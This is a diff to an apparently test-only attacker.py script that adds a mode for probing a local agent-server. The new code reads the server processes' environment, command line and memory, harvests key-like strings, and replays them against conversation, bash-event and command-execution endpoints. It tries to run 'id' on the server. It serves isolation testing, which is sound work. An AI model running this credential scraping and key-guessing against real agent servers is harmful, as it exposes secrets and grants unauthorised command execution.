@@ -9,16 +9,21 @@ Nothing here is checked by the script itself: it takes what it can and the test 
     python3 attacker.py plant-pth OUT                 write .pth files wherever Python may load them
     python3 attacker.py outlast-agent-server OUT PORT S  wait (at most S s) until no agent-server
                                                       runs on PORT
+    python3 attacker.py probe-agent-server OUT PORT S wait (at most S s) for the agent-server booting
+                                                      meanwhile, then ask it for everything
 """
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import socket
 import sys
 import threading
 import time
+import urllib.error
+import urllib.request
 from pathlib import Path
 
 READ_LIMIT = 256 * 1024
@@ -190,6 +195,48 @@ def outlast_agent_server(out: Path, port: int, seconds: float) -> None:
     (out / "outlasted").write_text(f"still running after {seconds} s: {seen}")
 
 
+PROBES = (
+    ("GET", "/api/conversations/search", None),
+    ("GET", "/api/bash/bash_events/search", None),
+    ("POST", "/api/bash/start_bash_command", {"command": "id > {out}/agent-ran"}),
+    ("POST", "/api/conversations", {"agent": {"llm": {"model": "x"}}, "workspace": {"working_dir": "/"}}),
+    ("GET", "/server_info", None),
+)
+
+
+def ask(port: int, method: str, path: str, body: object, key: str | None) -> str:
+    data = json.dumps(body).encode() if body is not None else None
+    headers = {"Content-Type": "application/json", **({"X-Session-API-Key": key} if key is not None else {})}
+    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=data, method=method, headers=headers)
+    try:
+        with urllib.request.urlopen(request, timeout=10) as answer:  # noqa: S310 - http, loopback
+            return f"{answer.status} {answer.read(64 * 1024).decode(errors='replace')}"
+    except urllib.error.HTTPError as error:
+        return f"{error.code} {error.read(4096).decode(errors='replace')}"
+    except OSError as error:
+        return f"<{type(error).__name__}>"
+
+
+def probe_agent_server(out: Path, port: int, seconds: float) -> None:
+    """Once the agent-server booting meanwhile answers, ask it for conversations, commands and
+    keys, with no key and with every key-like string its process and files let us read."""
+    deadline = time.monotonic() + seconds
+    while not ask(port, "GET", "/ready", None, None).startswith("200"):
+        if time.monotonic() > deadline:
+            (out / "probe.txt").write_text(f"the agent-server did not answer within {seconds} s")
+            return
+        time.sleep(0.2)
+    pids = agent_servers(port)
+    stolen = b"".join(read(f"/proc/{pid}/{name}") for pid in pids for name in ("environ", "cmdline", "mem"))
+    keys = {None, "", *re.findall(r"[A-Za-z0-9_-]{20,}", stolen.decode(errors="replace"))}
+    with (out / "probe.txt").open("w") as sink:
+        sink.write(f"ready while the setup script ran; agent-servers {pids}\n{stolen!r}\n")
+        for method, path, body in PROBES:
+            body = json.loads(json.dumps(body).replace("{out}", str(out))) if body is not None else None
+            for key in sorted(keys, key=str):
+                sink.write(f"{method} {path} key={key!r}: {ask(port, method, path, body, key)}\n")
+
+
 def main() -> None:
     command, out = sys.argv[1], Path(sys.argv[2])
     if command == "harvest":
@@ -198,6 +245,8 @@ def main() -> None:
         daemon(out, int(sys.argv[3]))
     elif command == "plant-pth":
         plant_pth(out)
+    elif command == "probe-agent-server":
+        probe_agent_server(out, int(sys.argv[3]), float(sys.argv[4]))
     elif command == "outlast-agent-server":
         outlast_agent_server(out, int(sys.argv[3]), float(sys.argv[4]))
 
